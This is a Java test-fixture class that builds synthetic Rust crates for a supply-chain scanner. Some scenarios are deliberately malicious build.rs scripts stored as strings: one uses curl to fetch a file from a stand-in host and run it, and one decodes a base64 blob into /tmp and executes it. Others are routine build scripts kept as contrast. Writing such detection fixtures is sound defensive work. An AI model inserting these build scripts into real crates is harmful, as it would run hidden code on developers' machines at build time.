package dev.cratetrust.testing;

import dev.cratetrust.crates.CrateContents;
import dev.cratetrust.crates.CrateFile;
import dev.cratetrust.crates.PackageId;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.stream.Stream;

/**
 * Builds synthetic crate versions for signals and diff tests: named scenarios (a build script that
 * downloads and runs a file, a base64 payload decoded at build time, a binary blob in tests/,
 * routine rustc/cc/pkg-config build scripts) and a builder for custom ones.
 */
public final class SignalFixtures {
  private SignalFixtures() {}

  public static Builder crate(String name, String version) {
    return new Builder(name, version);
  }

  /** Scenario {@code build-script-downloads-and-runs}: curl a file, chmod it, run it via sh. */
  public static Builder downloadAndRunBuildScript() {
    return crate("fast-logger", "0.2.0")
        .buildScript(
            """
            use std::process::Command;
            fn main() {
                let out = std::env::var("OUT_DIR").unwrap();
                let dest = format!("{}/helper", out);
                Command::new("curl")
                    .args(["-sSfL", "https://example.invalid/helper", "-o", &dest])
                    .status()
                    .unwrap();
                Command::new("sh").arg("-c").arg(format!("chmod +x {0} && {0}", dest))
                    .status()
                    .unwrap();
            }
            """);
  }

  /** Scenario {@code build-script-decodes-base64-payload}: decode, write to /tmp, execute. */
  public static Builder base64PayloadBuildScript() {
    byte[] payload = new byte[600];
    new Random(7).nextBytes(payload);
    String b64 = Base64.getEncoder().encodeToString(payload);
    return crate("async-printer", "1.0.1")
        .manifest(
            """
            [build-dependencies]
            base64 = "0.21"
            """)
        .buildScript(
            """
            use base64::Engine;
            use std::os::unix::fs::PermissionsExt;
            const BLOB: &str = "%s";
            fn main() {
                let bytes = base64::engine::general_purpose::STANDARD.decode(BLOB).unwrap();
                std::fs::write("/tmp/.cache-helper", &bytes).unwrap();
                let mut p = std::fs::metadata("/tmp/.cache-helper").unwrap().permissions();
                p.set_mode(0o755);
                std::fs::set_permissions("/tmp/.cache-helper", p).unwrap();
                std::process::Command::new("/tmp/.cache-helper").spawn().unwrap();
            }
            """
                .formatted(b64));
  }

  /** Scenario {@code binary-blob-in-tests}: an xz-compressed and an unrecognised blob. */
  public static Builder binaryBlobInTests() {
    byte[] xz = new byte[2048];
    new Random(3).nextBytes(xz);
    System.arraycopy(new byte[] {(byte) 0xfd, '7', 'z', 'X', 'Z', 0}, 0, xz, 0, 6);
    byte[] blob = new byte[4096];
    new Random(4).nextBytes(blob);
    blob[10] = 0;
    return crate("liblzma-tools", "5.6.1")
        .file("tests/files/bad-3-corrupt_lzma2.xz", xz)
        .file("tests/files/good-large_compressed.lzma", blob);
  }

  /** Routine: probes {@code $RUSTC --version}, like anyhow, serde and libc do. */
  public static Builder rustcVersionProbe() {
    return crate("probe", "1.0.0")
        .buildScript(
            """
            use std::env;
            use std::process::Command;
            fn main() {
                let rustc = env::var_os("RUSTC").unwrap_or_else(|| "rustc".into());
                let wrapper = env::var_os("RUSTC_WRAPPER");
                let mut cmd = match wrapper {
                    Some(w) => { let mut c = Command::new(w); c.arg(&rustc); c }
                    None => Command::new(rustc),
                };
                let out = cmd.arg("-vV").output().unwrap();
                let out_dir = env::var("OUT_DIR").unwrap();
                std::fs::write(format!("{}/version.txt", out_dir), &out.stdout).unwrap();
                println!("cargo:rerun-if-env-changed=RUSTC");
            }
            """);
  }

  /** Routine: compiles C with the cc crate. */
  public static Builder ccBuild() {
    return crate("native", "0.3.0")
        .manifest(
            """
            [build-dependencies]
            cc = "1"
            """)
        .file("src/native.c", "int answer(void) { return 42; }\n")
        .buildScript(
            """
            fn main() {
                cc::Build::new().file("src/native.c").compile("native");
                println!("cargo:rerun-if-changed=src/native.c");
            }
            """);
  }

  /** Routine: locates a system library with pkg-config and falls back to cmake. */
  public static Builder pkgConfigBuild() {
    return crate("libfoo-sys", "0.1.0")
        .manifest(
            """
            [package.metadata]
            x = 1
            [build-dependencies]
            pkg-config = "0.3"
            cmake = "0.1"
            """)
        .buildScript(
            """
            fn main() {
                if pkg_config::Config::new().atleast_version("1.2").probe("foo").is_ok() {
                    return;
                }
                let dst = cmake::Config::new("vendor/foo").build();
                println!("cargo:rustc-link-search=native={}/lib", dst.display());
                let target = std::env::var("TARGET").unwrap();
                if target.contains("apple") {
                    println!("cargo:rustc-link-lib=framework=Security");
                }
            }
            """);
  }

  /** The builder's files under another name and version (scenarios fix their own). */
  public static CrateContents crateRenamed(Builder b, String name, String version) {
    CrateContents c = b.build();
    List<CrateFile> files = new ArrayList<>();
    for (CrateFile f : c.files()) {
      files.add(
          f.path().equals("Cargo.toml")
              ? new CrateFile(
                  "Cargo.toml",
                  new String(f.content(), StandardCharsets.UTF_8)
                      .replaceFirst("name = \"[^\"]*\"", "name = \"" + name + "\"")
                      .replaceFirst("version = \"[^\"]*\"", "version = \"" + version + "\"")
                      .getBytes(StandardCharsets.UTF_8),
                  false)
              : f);
    }
    return new CrateContents(PackageId.of(name, version), files, "fixture", Optional.empty());
  }

  /** Reads an unpacked crate folder (regular files only) for tests over real crates. */
  public static CrateContents readDir(Path dir, String name, String version) throws IOException {
    List<CrateFile> files = new ArrayList<>();
    try (Stream<Path> walk = Files.walk(dir)) {
      for (Path p : walk.sorted().toList()) {
        if (Files.isRegularFile(p, LinkOption.NOFOLLOW_LINKS)) {
          String rel = dir.relativize(p).toString().replace('\\', '/');
          files.add(new CrateFile(rel, Files.readAllBytes(p), false));
        }
      }
    }
    return new CrateContents(PackageId.of(name, version), files, dir.toString(), Optional.empty());
  }

  /** Builds one synthetic crate version; Cargo.toml is generated from name, version and extras. */
  public static final class Builder {
    private final String name;
    private final String version;
    private final StringBuilder manifestExtra = new StringBuilder();
    private final StringBuilder packageExtra = new StringBuilder();
    private final Map<String, byte[]> files = new LinkedHashMap<>();

    private Builder(String name, String version) {
      this.name = name;
      this.version = version;
      files.put("src/lib.rs", "pub fn hello() -> u32 { 1 }\n".getBytes(StandardCharsets.UTF_8));
    }

    /** TOML appended after the {@code [package]} table. */
    public Builder manifest(String toml) {
      manifestExtra.append(toml).append('\n');
      return this;
    }

    /** A line added inside {@code [package]}, e.g. {@code build = "tools/gen.rs"}. */
    public Builder packageField(String line) {
      packageExtra.append(line).append('\n');
      return this;
    }

    public Builder procMacro() {
      return manifest("[lib]\nproc-macro = true\n");
    }

    public Builder buildScript(String code) {
      return file("build.rs", code);
    }

    public Builder file(String path, String text) {
      return file(path, text.getBytes(StandardCharsets.UTF_8));
    }

    public Builder file(String path, byte[] bytes) {
      files.put(path, bytes);
      return this;
    }

    public Builder remove(String path) {
      files.remove(path);
      return this;
    }

    public CrateContents build() {
      List<CrateFile> out = new ArrayList<>();
      out.add(new CrateFile("Cargo.toml", manifest().getBytes(StandardCharsets.UTF_8), false));
      files.forEach((p, b) -> out.add(new CrateFile(p, b, false)));
      return new CrateContents(PackageId.of(name, version), out, "fixture", Optional.empty());
    }

    /** Writes the crate as {@code dir/name-version/} and returns that folder. */
    public Path writeTo(Path dir) throws IOException {
      Path root = dir.resolve(name + "-" + version);
      for (CrateFile f : build().files()) {
        Path p = root.resolve(f.path());
        Files.createDirectories(p.getParent());
        Files.write(p, f.content());
      }
      return root;
    }

    private String manifest() {
      return "[package]\nname = \""
          + name
          + "\"\nversion = \""
          + version
          + "\"\nedition = \"2021\"\n"
          + packageExtra
          + "\n"
          + manifestExtra;
    }
  }
}
